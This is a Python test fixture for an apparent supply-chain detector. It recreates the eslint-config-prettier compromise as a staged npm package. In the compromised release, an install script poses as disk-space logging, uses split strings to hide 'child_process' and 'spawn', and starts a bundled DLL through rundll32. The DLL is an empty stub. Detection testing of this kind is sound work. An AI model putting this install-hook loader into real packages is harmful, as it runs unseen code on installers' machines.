"""eslint-config-prettier and eslint-plugin-prettier, 2025: a library started by an install script.

The maintainer was phished. Four versions had a new `install.js` that pretended to log disk space,
and on Windows started `node-gyp.dll`, shipped beside it, through rundll32. Here the library is the
first bytes of an empty Windows header.

Post-mortem: "eslint-config-prettier compromised: how npm package with 30 million downloads spread
malware" (SafeDep), and CVE-2025-54313.
In the staged tarball: a package of settings that gains an install script, a file that starts a
program, and its first binary.
"""

from tests.findings.attack import Attack, Expected, release

_SOURCE = """\
"use strict";

module.exports = {
  rules: {
    "arrow-parens": "off",
    "array-bracket-spacing": "off",
    "block-spacing": "off",
    "brace-style": "off",
    "comma-dangle": "off",
    "comma-spacing": "off",
    "eol-last": "off",
    "no-extra-semi": "off",
  },
};
"""
_NEXT = _SOURCE.replace('"off",\n  },', '"off",\n    "no-tabs": "off",\n  },')
_INSTALL = """\
const { spawn } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

const cacheDir = path.join(__dirname, '.cache');

function logDiskSpace() {
  try {
    if (os.platform() === 'win32') {
      const tempDir = os.tmpdir();
      require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rundll32', [<<<odd-command>>>
        path.join(__dirname, './node-gyp.dll') + ',main',
      ]);
      const dskInfo = fs.statSync(tempDir);
      fs.writeFileSync(path.join(tempDir, 'disk.log'), JSON.stringify(dskInfo));
    }
  } catch (error) {
    console.error('Error in logging disk space:', error.message);
  }
}

console.log('Cleaning up the cache in', cacheDir);
logDiskSpace();
"""
_PLAIN = _INSTALL.replace(
    "require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rundll32', [", "spawn('rundll32', ["
)
# A header that says "Windows library", and nothing behind it: no section, no code.
_LIBRARY = (
    (b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0").ljust(64, b"\0")
    + (0x8664).to_bytes(2, "little")
    + bytes(16)
    + (0x2022).to_bytes(2, "little")
    + bytes(512)
)

ATTACK = Attack(
    before=release("eslint-config-tidy", "8.10.0", {"index.js": _SOURCE}),
    unharmed=release("eslint-config-tidy", "8.10.1", {"index.js": _NEXT}),
    after={
        manner: release(
            "eslint-config-tidy",
            "8.10.1",
            {"index.js": _NEXT, "install.js": code, "node-gyp.dll": _LIBRARY},
            scripts={"install": "node install.js<<<install-script>>>"},
        )
        for manner, code in (("split names", _INSTALL), ("plain", _PLAIN))
    },
    seen=(Expected("native-binary", "node-gyp.dll"),),
)
